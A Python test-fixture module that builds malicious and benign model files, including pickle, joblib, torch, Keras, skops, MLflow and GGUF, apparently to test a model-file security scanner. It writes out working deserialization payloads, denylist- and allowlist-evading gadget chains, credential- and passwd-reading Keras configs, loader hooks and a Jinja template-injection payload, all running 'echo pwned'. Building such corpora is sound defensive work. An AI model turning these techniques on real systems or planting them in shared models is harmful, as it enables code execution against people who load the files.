"""A corpus of malicious and benign model files, built in code (nothing is committed).

Malicious payloads only ever run ``echo pwned``; nothing here is ever unpickled. Pickles are
written opcode by opcode where the technique needs exact bytes.
"""

from __future__ import annotations

import base64
import functools
import gzip
import io
import json
import pickle
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path

CMD = "echo pwned"
JOBLIB_COMPRESSORS = ("zlib", "gzip", "bz2", "lzma", "xz")  # lz4 needs the lz4 package
TORCH_MAGIC = 0x1950A86A20F9469CFC6C


# --- opcode emitters ------------------------------------------------------------------------
def glob(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def ustr(text: str) -> bytes:
    data = text.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def tup(*items: bytes) -> bytes:
    return b"(" + b"".join(items) + b"t"


def call(func: bytes, *args: bytes) -> bytes:
    return func + tup(*args) + b"R"


P2, P4, STOP = b"\x80\x02", b"\x80\x04", b"."


def os_system_pickle() -> bytes:
    return P2 + call(glob("os", "system"), ustr(CMD)) + STOP


def resolve_name_pickle() -> bytes:
    """pkgutil.resolve_name('os:system')('echo pwned'): outside modelscan's denylist."""
    return P2 + call(call(glob("pkgutil", "resolve_name"), ustr("os:system")), ustr(CMD)) + STOP


# --- malicious techniques -------------------------------------------------------------------
def _call_pickle(func: bytes, *args: bytes, protocol: bytes = P2) -> bytes:
    return protocol + call(func, *args) + STOP


def _opcode_pickles() -> dict[str, tuple[str, bytes]]:
    """Classic payloads, one per opcode path (GLOBAL, INST, OBJ, NEWOBJ, EXT, protocols)."""
    popen = P2 + glob("subprocess", "Popen") + tup(tup(ustr(CMD))) + b"\x81" + STOP
    inner = os_system_pickle()
    return {
        "os_system_p2": ("model.pkl", inner),
        "protocol0_global": ("model.pkl", b"cos\nsystem\n(S'echo pwned'\ntR."),
        "protocol1": ("model.pkl", pickle.dumps(_OsSystem(), 1)),
        "builtins_exec_p4": ("model.pkl", _call_pickle(glob("builtins", "exec"), ustr("1"))),
        "inst_opcode": ("model.pkl", b"(S'echo pwned'\nios\nsystem\n."),
        "obj_opcode": ("model.pkl", b"(cos\nsystem\nS'echo pwned'\no."),
        "newobj_popen": ("model.pkl", popen),
        "nested_pickle_loads": (
            "model.pkl",
            _call_pickle(glob("pickle", "loads"), b"C" + bytes([len(inner)]) + inner),
        ),  # fmt: skip
        "ext_opcode": ("model.pkl", P2 + b"\x82\x01" + tup(ustr(CMD)) + b"R" + STOP),
        "nullifai_broken": ("model.pkl", inner[:-1] + b"\x00garbage\xff" * 4),
        "no_extension": ("model", inner),
    }


def _evasive_pickles() -> dict[str, tuple[str, bytes]]:
    """Payloads built to slip past denylists, string tracking and single-pickle scanners."""
    methodcaller = call(glob("operator", "methodcaller"), ustr("system"), ustr(CMD))
    module = call(glob("importlib", "import_module"), ustr("os"))
    smuggle = (
        P2 + call(glob("collections", "OrderedDict"))
        + b"N}" + ustr("__setstate__") + glob("cProfile", "run") + b"s\x86b"
        + ustr("import os; os.system('echo pwned')") + b"b" + STOP
    )  # fmt: skip
    short_binstring = (
        P4 + b"U\x02osq\x00" + b"T" + struct.pack("<i", 6) + b"system" + b"\x93"
        + tup(ustr(CMD)) + b"R" + STOP
    )  # fmt: skip
    memo_indirect = (
        P4 + b"\x8c\x02os\x94" + b"2q\x05" + b"0" + b"\x8c\x06system\x94" + b"0"
        + b"h\x05" + b"h\x02" + b"\x93" + tup(ustr(CMD)) + b"R" + STOP
    )  # fmt: skip
    resolver = call(glob("numpy.core", "_ufunc_reconstruct"), ustr("os"), ustr("system"))
    dotted = P4 + ustr("posixpath") + ustr("os.system") + b"\x93" + tup(ustr(CMD)) + b"R" + STOP
    computed = call(glob("builtins", "str"), ustr("os")) + ustr("system") + b"\x93"
    return {
        "pkgutil_resolve_name": ("model.pkl", resolve_name_pickle()),
        "importlib_methodcaller": ("model.pkl", P2 + methodcaller + tup(module) + b"R" + STOP),
        "importlib_import_module": ("model.pkl", P2 + module + STOP),
        "cprofile_run": ("model.pkl", _call_pickle(glob("cProfile", "run"), ustr(CMD))),
        "build_setstate_smuggling": ("model.pkl", smuggle),
        "short_binstring_stack_global": ("model.pkl", short_binstring),
        "memo_dup_stack_global": ("model.pkl", memo_indirect),
        "ufunc_reconstruct_resolver": ("model.pkl", _call_pickle(resolver, ustr(CMD))),
        "dotted_name_traversal": ("model.pkl", dotted),
        "stack_global_computed": ("model.pkl", _call_pickle(computed, ustr(CMD), protocol=P4)),
        "stacked_second_pickle": ("model.pkl", pickle.dumps({"w": 1}, 2) + resolve_name_pickle()),
        "garbage_after_malicious": ("model.pkl", resolve_name_pickle() + b"\xffjunk" * 8),
        "wrong_extension": ("weights.txt", resolve_name_pickle()),
        "legacy_torch_stacked": ("model.pt", _legacy_torch(resolve_name_pickle())),
    }


# --- gadget chains: only names a package-wide allowlist admits ------------------------------
RETURNS_MODULE = ("sklearn.utils._set_output", "check_library_installed")  # import_module(arg)
GETATTR_BY_NAME = ("sklearn.utils.validation", "_check_response_method")  # getattr(obj, arg)
EXECS_ARGUMENT = ("scipy._lib.array_api_compat._internal", "clone_module")  # exec(f"from {arg}")
EXEC_IN_SETSTATE = ("scipy.stats._continuous_distns", "norm_gen")  # exec(state[template])


def scipy_template_exec(code: str = f"import os\nos.system({CMD!r})") -> bytes:
    """An allowed class whose __setstate__ exec()s a string from the pickle (scipy's
    distributions run ``_parse_arg_template``): no function, no unusual global."""
    dist = call(glob("copyreg", "_reconstructor"), glob(*EXEC_IN_SETSTATE),
                glob("builtins", "object"), b"N")  # fmt: skip
    state = b"}" + ustr("_parse_arg_template") + ustr(code) + b"s"
    return dist + state + b"b"


def gadget_chain_pickle() -> bytes:
    """getattr(import_module('os'), 'system') resolved by library helpers, then exec through
    a scipy distribution's BUILD state: every name was allowed by 'sklearn.*'/'scipy.stats.*'."""
    module = call(glob(*RETURNS_MODULE), ustr("os"))
    method = call(glob(*GETATTR_BY_NAME), module, ustr("system"))
    clone = call(glob(*EXECS_ARGUMENT), ustr("os"), b"}")
    return P2 + b"(" + method + clone + scipy_template_exec() + b"l" + STOP


# --- protocol 0/1 with modules this host does not have ------------------------------------
def protocol0_foreign_module() -> dict[str, tuple[str, bytes]]:
    """Text-protocol pickles whose first global is not importable on a Linux scanner host:
    a Windows-only module, a module of a newer Python, a library that is not installed."""
    return {
        "protocol0_windows_only_module": ("model.pkl", b"c_winapi\nCreateProcess\n(S'cmd'\ntR."),
        "protocol0_not_installed_module": (
            "model.pkl", b"ctorchvision_ops_ext\nrun_hook\n(S'echo pwned'\ntR.",
        ),
        "protocol0_inst_unknown_module": ("model.pkl", b"(S'echo pwned'\nifuture_stdlib\nspawn\n."),
        "protocol1_foreign_binput": (
            "model.pkl", b"]q\x00(cnot_here_mod\nexecute\nq\x01U\x04echoq\x02\x85q\x03Rq\x04e.",
        ),
    }  # fmt: skip


# --- joblib arrays whose dtype changes in its BUILD state -----------------------------------
def joblib_dtype_build_object_array() -> bytes:
    """The wrapper's dtype is 'V8' by its code but an object dtype by its BUILD state (fields
    holding 'O'): joblib unpickles what follows, a scanner sizing by the code skips it."""
    object_dtype = (
        call(glob("numpy", "dtype"), ustr("O8"), b"\x89", b"\x88")
        + tup(
            b"K\x03",
            ustr("|"),
            b"N",
            b"N",
            b"N",
            b"J\xff\xff\xff\xff",
            b"J\xff\xff\xff\xff",
            b"K?",
        )
        + b"b"
    )
    fields = b"}" + ustr("a") + tup(object_dtype, b"K\x00") + b"s"
    state = tup(b"K\x03", ustr("|"), b"N", tup(ustr("a")), fields, b"K\x08", b"K\x01", b"K?")
    dtype = call(glob("numpy", "dtype"), ustr("V8"), b"\x89", b"\x88") + state + b"b"
    payload = os_system_pickle()
    wrapper = (
        glob("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81" + b"}(" + ustr("subclass")
        + glob("numpy", "ndarray") + ustr("shape") + b"(K" + bytes([len(payload) // 8 + 1])
        + b"t" + ustr("order") + ustr("C") + ustr("dtype") + dtype + ustr("allow_mmap")
        + b"\x89u" + b"b"
    )  # fmt: skip
    return P2 + wrapper + payload + STOP


def _gadget_pickles() -> dict[str, tuple[str, bytes]]:
    return {
        "gadget_chain_allowlisted_functions": ("model.pkl", gadget_chain_pickle()),
        "scipy_distribution_setstate_exec": ("model.pkl", P2 + scipy_template_exec() + STOP),
        "reconstructor_given_computed_callable": ("model.pkl", _reconstructor_computed()),
        "joblib_dtype_build_object_array": ("model.joblib", joblib_dtype_build_object_array()),
        **protocol0_foreign_module(),
        **keras_attacks(),
    }


def _reconstructor_computed() -> bytes:
    """copyreg._reconstructor(cls, base, state) calls base.__init__: base built by a call."""
    base = call(glob("functools", "partial"), glob("builtins", "int"))
    return P2 + call(glob("copyreg", "_reconstructor"), glob("builtins", "object"), base,
                     ustr(CMD)) + STOP  # fmt: skip


class _OsSystem:
    def __reduce__(self) -> tuple[object, tuple[str]]:
        import os

        return os.system, (CMD,)


def _legacy_torch(main: bytes, keys: tuple[str, ...] = ("0",), data: bytes = b"") -> bytes:
    sys_info = {"protocol_version": 1001, "little_endian": True, "type_sizes": {"int": 4}}
    head = b"".join(pickle.dumps(v, 2) for v in (TORCH_MAGIC, 1001, sys_info))
    return head + main + pickle.dumps(list(keys), 2) + data


def _torch_zip(data_pkl: bytes, extra: dict[str, bytes] | None = None) -> bytes:
    members = {
        "archive/data.pkl": data_pkl, "archive/byteorder": b"little",
        "archive/.format_version": b"1", "archive/.storage_alignment": b"64",
        "archive/version": b"3\n", "archive/.data/serialization_id": b"0123456789\n",
        **(extra or {}),
    }  # fmt: skip
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _patch_zip(data: bytes, member: str, patch: Callable[[bytearray, int, int], None]) -> bytes:
    """Apply ``patch(buffer, local_offset, central_offset)`` to one member's headers."""
    buffer = bytearray(data)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        names = archive.namelist()
        local = archive.getinfo(member).header_offset
    central = [i for i in range(len(buffer)) if buffer[i : i + 4] == b"PK\x01\x02"]
    patch(buffer, local, central[names.index(member)])
    return bytes(buffer)


def _set_flag(buffer: bytearray, local: int, central: int) -> None:
    buffer[local + 6] |= 0x01
    buffer[central + 8] |= 0x01


def _bad_crc(buffer: bytearray, local: int, central: int) -> None:
    struct.pack_into("<I", buffer, local + 14, 0xDEADBEEF)
    struct.pack_into("<I", buffer, central + 16, 0xDEADBEEF)


def _rename_local(buffer: bytearray, local: int, central: int) -> None:
    buffer[local + 30 + len("archive/data.pk")] = ord("X")


def joblib_differential() -> bytes:
    """A joblib array whose raw bytes are a pickle payload: joblib reads them as data,
    plain ``pickle.load`` runs them."""
    payload = b"cos\nsystem\n(S'echo pwned'\ntR."
    state = (
        b"}(" + ustr("subclass") + glob("numpy", "ndarray") + ustr("shape")
        + b"(K" + bytes([len(payload)]) + b"t" + ustr("order") + ustr("C") + ustr("dtype")
        + call(glob("numpy", "dtype"), ustr("u1"), b"\x89", b"\x88") + ustr("allow_mmap")
        + b"\x89u"
    )  # fmt: skip
    wrapper = glob("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81"
    return P2 + wrapper + state + b"b" + payload[:-1] + b"." + STOP


def _malicious_containers() -> dict[str, tuple[str, bytes]]:
    evil = resolve_name_pickle()
    torch_evil = _torch_zip(evil)
    corrupt_first = bytearray(_plain_zip({"archive/README": b"readme", **_zip_members(torch_evil)}))
    corrupt_first[0:4] = b"XX\x03\x04"
    return {
        "torch_zip_data_pkl": ("model.pt", torch_evil),
        "torch_zip_os_system": ("model.pt", _torch_zip(os_system_pickle())),
        "zip_flag_bits": ("model.pt", _patch_zip(torch_evil, "archive/data.pkl", _set_flag)),
        "zip_crc_mismatch": ("model.pt", _patch_zip(torch_evil, "archive/data.pkl", _bad_crc)),
        "zip_corrupt_first_entry": ("model.pt", bytes(corrupt_first)),
        "zip_local_name_mismatch": (
            "model.pt",
            _patch_zip(torch_evil, "archive/data.pkl", _rename_local),
        ),  # fmt: skip
        "zip_member_txt_name": ("model.zip", _plain_zip({"notes.txt": evil, "a.json": b"{}"})),
        "npy_object_array": ("weights.npy", _npy_object(evil)),
        "npz_object_array": ("weights.npz", _plain_zip({"x.npy": _npy_object(evil)})),
        "gzip_pickle": ("model.pkl.gz", gzip.compress(os_system_pickle())),
        "joblib_zlib": ("model.joblib", _joblib_bytes(_Evil(), compress=3)),
        "joblib_array_then_evil": ("model.joblib", _joblib_bytes(_array_then_evil())),
        "joblib_array_differential": ("model.joblib", joblib_differential()),
        "keras_lambda": ("model.keras", _keras_zip(_keras_layer("Lambda", "keras.layers"))),
        "keras_foreign_module": ("model.keras", _keras_zip(_keras_layer("system", "os"))),
        "skops_untrusted_type": ("model.skops", _skops_with_type("os", "system")),
    }


class _Evil:
    def __reduce__(self) -> tuple[object, tuple[str]]:
        import pkgutil

        return pkgutil.resolve_name, ("os:system",)


def _array_then_evil() -> dict[str, object]:
    import numpy as np

    return {"weights": np.arange(4096, dtype="float64"), "hook": _Evil()}


def _joblib_bytes(value: object, compress: int = 0) -> bytes:
    import joblib

    buffer = io.BytesIO()
    joblib.dump(value, buffer, compress=compress)
    return buffer.getvalue()


def _npy_object(payload: bytes) -> bytes:
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += " " * (63 - (10 + len(header)) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + payload


def _plain_zip(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _keras_layer(class_name: str, module: str) -> dict[str, object]:
    function = {"class_name": "__lambda__", "config": {"code": "4wEAAAAAAAAA"}}
    return {"module": module, "class_name": class_name, "config": {"function": function}}


def _keras_zip(layer: dict[str, object]) -> bytes:
    config = {
        "module": "keras", "class_name": "Sequential",
        "config": {"name": "seq", "layers": [
            {"module": "keras.layers", "class_name": "InputLayer", "config": {"shape": [3]}},
            layer,
        ]},
    }  # fmt: skip
    metadata = {"keras_version": "3.5.0", "date_saved": "2026-11-22@00:00:00"}
    return _plain_zip(
        {"metadata.json": json.dumps(metadata).encode(), "config.json": json.dumps(config).encode()}
    )


# --- Keras configs -------------------------------------------------------------------------
def keras_object(class_name: str, config: dict[str, object], module: str = "keras.layers",
                 registered: str | None = None) -> dict[str, object]:  # fmt: skip
    return {"module": module, "class_name": class_name, "config": config,
            "registered_name": registered}  # fmt: skip


def keras_standard_layers() -> list[dict[str, object]]:
    """Layers as Keras 3 serializes them (initializers, regularizers, dtype policies inside)."""
    init = keras_object("GlorotUniform", {"seed": None}, "keras.initializers")
    policy = keras_object("DTypePolicy", {"name": "float32"}, "keras")
    dense = {
        "units": 8,
        "activation": "relu",
        "kernel_initializer": init,
        "dtype": policy,
        "bias_initializer": keras_object("Zeros", {}, "keras.initializers"),
        "kernel_regularizer": keras_object("L2", {"l2": 0.01}, "keras.regularizers"),
    }
    return [
        keras_object("InputLayer", {"batch_shape": [None, 4], "dtype": "float32", "name": "x"}),
        keras_object("Dense", dense), keras_object("BatchNormalization", {"axis": -1}),
        keras_object("Dropout", {"rate": 0.2, "seed": None}),
        keras_object("StringLookup", {"vocabulary": ["a", "b", "c"], "num_oov_indices": 1}),
        keras_object("Conv1D", {"filters": 2, "kernel_size": [3], "padding": "same"}),
        keras_object("Dense", {"units": 2, "activation": keras_object(
            "function", "softmax", "keras.src.activations.activations", "function")}),
    ]  # fmt: skip


def keras_model(layers: list[dict[str, object]]) -> dict[str, object]:
    optimizer = keras_object("Adam", {"learning_rate": 0.001}, "keras.optimizers")
    compile_config = {"optimizer": optimizer, "loss": "sparse_categorical_crossentropy",
                      "metrics": ["accuracy"]}  # fmt: skip
    config = {"name": "seq", "layers": layers}
    return {"module": "keras", "class_name": "Sequential", "registered_name": None,
            "config": config, "compile_config": compile_config}  # fmt: skip


def keras_archive(layers: list[dict[str, object]]) -> bytes:
    metadata = {"keras_version": "3.12.0", "date_saved": "2026-11-22@00:00:00"}
    return _plain_zip({"metadata.json": json.dumps(metadata).encode(),
                       "config.json": json.dumps(keras_model(layers)).encode()})  # fmt: skip


def keras_attacks() -> dict[str, tuple[str, bytes]]:
    """One .keras archive per Keras technique, each a standard model plus one bad object."""
    torch_payload = base64.b64encode(_torch_zip(os_system_pickle())).decode()
    attacks = {
        "keras_tfsmlayer_external_savedmodel": keras_object(
            "TFSMLayer", {"filepath": "/tmp/attacker_savedmodel", "call_endpoint": "serve"}),
        "keras_stringlookup_vocabulary_file": keras_object(
            "StringLookup", {"vocabulary": "/home/user/.aws/credentials"}),
        "keras_textvectorization_vocabulary_url": keras_object(
            "TextVectorization", {"vocabulary": "gs://bucket/../../etc/passwd"}),
        "keras_get_file_function_as_layer": keras_object(
            "function", "get_file", "keras.utils", "function"),
        "keras_load_model_function_argument": keras_object("Lambda", {"function": keras_object(
            "function", "load_model", "keras.models", "function"), "arguments": {
            "safe_mode": False}}),
        "keras_torch_module_wrapper": keras_object("TorchModuleWrapper", {"module": {
            "class_name": "__bytes__", "config": {"value": torch_payload}}}, "keras.layers"),
        "keras_custom_registered_object": keras_object(
            "CustomDense", {"units": 2}, "keras.layers", "mypkg>CustomDense"),
        "keras_unknown_keras_class": keras_object("Tokenizer", {"num_words": 3}, "keras.utils"),
    }  # fmt: skip
    return {
        name: ("model.keras", keras_archive([*keras_standard_layers()[:2], layer]))
        for name, layer in attacks.items()
    }


def _skops_with_type(module: str, name: str) -> bytes:
    """A skops file whose FunctionTransformer.func is ``module.name`` instead of numpy.log1p."""
    from sklearn.preprocessing import FunctionTransformer

    members = _zip_members(_skops_bytes(FunctionTransformer(func=_numpy_log1p())))
    schema = json.loads(members["schema.json"])
    func = schema["content"]["content"]["func"]
    func["__module__"], func["__class__"] = module, name
    members["schema.json"] = json.dumps(schema).encode()
    return _plain_zip(members)


def _numpy_log1p() -> object:
    import numpy as np

    return np.log1p


def _skops_bytes(model: object) -> bytes:
    import skops.io

    return bytes(skops.io.dumps(model))


def _zip_members(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


@functools.lru_cache(maxsize=1)
def malicious_corpus() -> dict[str, tuple[str, bytes]]:
    """Technique name -> (file name, bytes). Every one must be judged unsafe."""
    return {
        **_opcode_pickles(), **_evasive_pickles(), **_malicious_containers(), **_gadget_pickles(),
    }  # fmt: skip


# --- benign models --------------------------------------------------------------------------
def _sklearn_pipeline() -> object:
    import numpy as np
    from sklearn.ensemble import RandomForestClassifier
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import FunctionTransformer, StandardScaler

    rng = np.random.default_rng(0)
    features, labels = rng.random((120, 4)), rng.integers(0, 2, 120)
    steps = (FunctionTransformer(np.log1p), StandardScaler(), RandomForestClassifier(5))
    return make_pipeline(*steps).fit(features, labels)


def torch_state_dict_pickle(tensors: dict[str, tuple[str, int]]) -> bytes:
    """``data.pkl`` as torch.save writes it: name -> (storage key, element count), float32."""
    items = b""
    for name, (key, numel) in tensors.items():
        storage = tup(ustr("storage"), glob("torch", "FloatStorage"), ustr(key), ustr("cpu"),
                      b"J" + struct.pack("<i", numel)) + b"Q"  # fmt: skip
        args = tup(storage, b"K\x00", tup(b"J" + struct.pack("<i", numel)) , b"(K\x01t",
                   b"\x89", call(glob("collections", "OrderedDict")))  # fmt: skip
        items += ustr(name) + glob("torch._utils", "_rebuild_tensor_v2") + args + b"R"
    return P2 + call(glob("collections", "OrderedDict")) + b"(" + items + b"u" + STOP


def torch_zip_checkpoint(tensors: dict[str, bytes]) -> bytes:
    """A torch.save-style zip of float32 tensors given as raw little-endian bytes."""
    layout = {name: (str(i), len(raw) // 4) for i, (name, raw) in enumerate(tensors.items())}
    extra = {f"archive/data/{i}": raw for i, raw in enumerate(tensors.values())}
    return _torch_zip(torch_state_dict_pickle(layout), extra)


def _safetensors(arrays: dict[str, bytes]) -> bytes:
    header, offset, body = {"__metadata__": {"format": "pt"}}, 0, b""
    for name, raw in arrays.items():
        header[name] = {
            "dtype": "F32",
            "shape": [len(raw) // 4],
            "data_offsets": [offset, offset + len(raw)],
        }
        offset, body = offset + len(raw), body + raw
    text = json.dumps(header).encode()
    text += b" " * (-len(text) % 8)
    return struct.pack("<Q", len(text)) + text + body


@functools.lru_cache(maxsize=1)
def benign_corpus() -> dict[str, tuple[str, bytes]]:
    """Model name -> (file name, bytes). None may raise a finding."""
    import numpy as np

    model = _sklearn_pipeline()
    floats = np.random.default_rng(1).standard_normal(2048).astype("<f4").tobytes()
    npy, npz = io.BytesIO(), io.BytesIO()
    np.save(npy, np.arange(100.0))
    np.savez(npz, a=np.arange(10), b=np.ones((3, 3)))
    legacy = _legacy_torch(torch_state_dict_pickle({"w": ("0", 4)}), ("0",),
                           struct.pack("<q", 4) + floats[:16])  # fmt: skip
    return {
        **{f"sklearn_pickle_p{p}": ("model.pkl", pickle.dumps(model, p)) for p in range(6)},
        "sklearn_joblib": ("model.joblib", _joblib_bytes(model)),
        "sklearn_joblib_zlib": ("model.joblib", _joblib_bytes(model, compress=3)),
        **{
            f"sklearn_joblib_{c}": ("model.joblib", _joblib_bytes(model, compress=(c, 3)))
            for c in JOBLIB_COMPRESSORS
        },  # fmt: skip
        "sklearn_skops": ("model.skops", _skops_bytes(model)),
        "numpy_npy": ("weights.npy", npy.getvalue()),
        "numpy_npz": ("weights.npz", npz.getvalue()),
        "torch_zip": ("model.pt", torch_zip_checkpoint({"w": floats, "b": floats[:64]})),
        "torch_legacy": ("model.pt", legacy),
        "safetensors": ("model.safetensors", _safetensors({"w": floats, "b": floats[:32]})),
        "keras_standard_layers": ("model.keras", keras_archive(keras_standard_layers())),
        "json": ("config.json", json.dumps({"n_estimators": 5, "labels": ["a", "b"]}).encode()),
        "mlmodel_yaml": ("MLmodel", b"artifact_path: model\nflavors:\n  sklearn: {}\n"),
        "requirements": ("requirements.txt", b"cloudpickle\nmlflow\nscikit-learn==1.9.1\n"),
        "empty": ("empty.txt", b""),
        "gzip_pickle": ("model.pkl.gz", gzip.compress(pickle.dumps({"w": [1.0, 2.0]}, 4))),
    }


# --- MLflow model directories ---------------------------------------------------------------
def mlmodel(pyfunc: dict[str, object], flavors: dict[str, object] | None = None) -> bytes:
    import yaml

    env = {"conda": "conda.yaml", "virtualenv": "python_env.yaml"}
    spec = {"flavors": {"python_function": {"env": env, "python_version": "3.11.7", **pyfunc},
                        **(flavors or {})}, "mlflow_version": "3.17.2"}  # fmt: skip
    return yaml.safe_dump(spec).encode()


def mlflow_sklearn_dir(serialization: str = "skops") -> dict[str, bytes]:
    """An MLflow sklearn model directory as ``mlflow.sklearn.save_model`` writes it."""
    model = _sklearn_pipeline()
    data = _skops_bytes(model) if serialization == "skops" else pickle.dumps(model, 4)
    name = "model.skops" if serialization == "skops" else "model.pkl"
    sklearn = {"code": None, "pickled_model": name, "serialization_format": serialization,
               "sklearn_version": "1.9.1", "skops_trusted_types": None}  # fmt: skip
    pyfunc = {"loader_module": "mlflow.sklearn", "model_path": name, "predict_fn": "predict"}
    return {
        "MLmodel": mlmodel(pyfunc, {"sklearn": sklearn}), name: data,
        "conda.yaml": b"name: mlflow-env\ndependencies: [python=3.11.7, pip]\n",
        "python_env.yaml": b"python: 3.11.7\nbuild_dependencies: [pip]\n",
        "requirements.txt": b"mlflow==3.17.2\nscikit-learn==1.9.1\n",
    }  # fmt: skip


def mlflow_attacks() -> dict[str, dict[str, bytes]]:
    """MLflow directories whose load runs custom code, one per way of doing it."""
    base = mlflow_sklearn_dir()
    hook = b"import os\nos.system('echo pwned')\ndef _load_pyfunc(path):\n    return None\n"
    python_model = pickle.dumps({"w": 1}, 4)  # stands in for a cloudpickled PythonModel
    trusted = {"serialization_format": "skops", "pickled_model": "model.skops",
               "skops_trusted_types": ["os.system"]}  # fmt: skip
    return {
        "mlflow_custom_loader_module_with_code": {
            **base, "MLmodel": mlmodel({"loader_module": "evil_loader", "code": "code"}),
            "code/evil_loader.py": hook,
        },
        "mlflow_code_dir_next_to_mlflow_loader": {**base, "code/sitecustomize.py": hook},
        "mlflow_python_model_pickle": {
            **base, "python_model.pkl": python_model,
            "MLmodel": mlmodel({"loader_module": "mlflow.pyfunc.model",
                                "python_model": "python_model.pkl"}),
        },  # fmt: skip
        "mlflow_unknown_flavour": {
            **base, "MLmodel": mlmodel({"loader_module": "mlflow.sklearn"}, {"custom_x": {}}),
        },
        "mlflow_skops_trusted_types": {
            **base, "MLmodel": mlmodel({"loader_module": "mlflow.sklearn"}, {"sklearn": trusted}),
        },
    }  # fmt: skip


def write_dir(files: dict[str, bytes], folder: Path) -> Path:
    for name, data in files.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_bytes(data)
    return folder


def write(corpus: dict[str, tuple[str, bytes]], name: str, folder: Path) -> Path:
    """Write one corpus entry into ``folder/name/`` and return the file's path."""
    file_name, data = corpus[name]
    path = folder / name / file_name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    return path


# --- ONNX with external data ------------------------------------------------------------------
def onnx_external_model(location: str = "weights.bin", offset: int = 0) -> tuple[bytes, bytes]:
    """(model bytes, weights bytes): a MatMul whose initializer lives in ``location``."""
    import numpy as np
    from onnx import TensorProto, helper, numpy_helper

    weights = np.ones((8, 8), np.float32)
    tensor = numpy_helper.from_array(weights, "w")
    tensor.ClearField("raw_data")
    tensor.data_location = TensorProto.EXTERNAL
    for key, value in (("location", location), ("offset", str(offset)),
                       ("length", str(weights.nbytes))):  # fmt: skip
        entry = tensor.external_data.add()
        entry.key, entry.value = key, value
    value = helper.make_tensor_value_info
    graph = helper.make_graph(
        [helper.make_node("MatMul", ["x", "w"], ["y"])], "g",
        [value("x", TensorProto.FLOAT, [1, 8])], [value("y", TensorProto.FLOAT, [1, 8])], [tensor],
    )  # fmt: skip
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
    return model.SerializeToString(), weights.tobytes()


# --- legacy torch tar, GGUF, TensorFlow SavedModel (bytes written by hand) --------------------
def v7_tar(members: dict[str, bytes]) -> bytes:
    """An old V7 tar (no ustar magic), as early torch.save wrote through tarfile."""
    out = b""
    for name, data in members.items():
        header = bytearray(512)
        fields = (
            (0, name.encode()),
            (100, b"0000644\0"),
            (108, b"0000000\0"),
            (116, b"0000000\0"),
            (124, b"%011o\0" % len(data)),
            (136, b"00000000000\0"),
        )
        for offset, value in fields:  # fmt: skip
            header[offset : offset + len(value)] = value
        header[148:156] = b" " * 8
        header[156:157] = b"0"
        header[148:156] = b"%06o\0 " % sum(header)
        out += bytes(header) + data + bytes(-len(data) % 512)
    return out + bytes(1024)


def ustar(members: dict[str, bytes]) -> bytes:
    import tarfile

    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.USTAR_FORMAT) as archive:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def torch_tar_members(
    main: bytes | None = None, storage_args: bytes | None = None
) -> dict[str, bytes]:
    """sys_info, pickle, storages, tensors as torch's legacy tar checkpoint holds them."""
    sys_info = pickle.dumps({"protocol_version": 1001, "little_endian": True}, 2)
    args = storage_args or (P2 + tup(ustr("0"), ustr("cpu"), glob("torch", "FloatStorage")) + STOP)
    storages = (pickle.dumps(1, 2) + args + struct.pack("<q", 4) + bytes(16)
                + pickle.dumps([], 2))  # fmt: skip
    tensor = P2 + tup(ustr("t0"), ustr("0"), glob("torch", "FloatTensor")) + STOP
    dims = struct.pack("<i", 1) + bytes(4) + struct.pack("<qqq", 4, 1, 0)
    main = main or (P2 + call(glob("collections", "OrderedDict")) + ustr("w") + ustr("t0")
                    + b"Qs" + STOP)  # fmt: skip
    return {"sys_info": sys_info, "pickle": main, "storages": storages,
            "tensors": pickle.dumps(1, 2) + tensor + dims}  # fmt: skip


def gguf_file(template: str | None, extra: dict[str, str] | None = None) -> bytes:
    """A GGUF v3 file: string metadata (architecture, chat template) and one F32 tensor."""

    def text(value: str) -> bytes:
        data = value.encode()
        return struct.pack("<Q", len(data)) + data

    meta = {"general.architecture": "llama", **(extra or {})}
    if template is not None:
        meta["tokenizer.chat_template"] = template
    body = b"".join(text(k) + struct.pack("<I", 8) + text(v) for k, v in meta.items())
    tensor = text("w") + struct.pack("<IQIQ", 1, 8, 0, 0)
    head = b"GGUF" + struct.pack("<IQQ", 3, 1, len(meta)) + body + tensor
    return head + bytes(-len(head) % 32) + bytes(32)


CHATML = (
    "{% for message in messages %}{% if message['role'] not in ['system', 'user', 'assistant'] %}"
    "{{ raise_exception('bad role') }}{% endif %}{{ '<|im_start|>' + message['role'] + '\\n' + "
    "message['content'] | trim + '<|im_end|>\\n' }}{% endfor %}{% if add_generation_prompt %}"
    "{{ '<|im_start|>assistant\\n' }}{% endif %}"
)
LLAMA_DRAMA = (  # the CVE-2024-34359 payload shape
    "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}"
    "{{ x()._module.__builtins__['__import__']('os').popen('echo pwned').read() }}"
    "{% endif %}{% endfor %}"
)
ATTR_FILTER = "{{ (()|attr('__class__')|attr('__base__')|attr('__subclasses__'))() }}"


def proto(number: int, value: bytes | int | str) -> bytes:
    """One protobuf field: varint for ints, length-delimited for bytes/str."""

    def varint(n: int) -> bytes:
        out = b""
        while True:
            out += bytes([(n & 0x7F) | (0x80 if n > 0x7F else 0)])
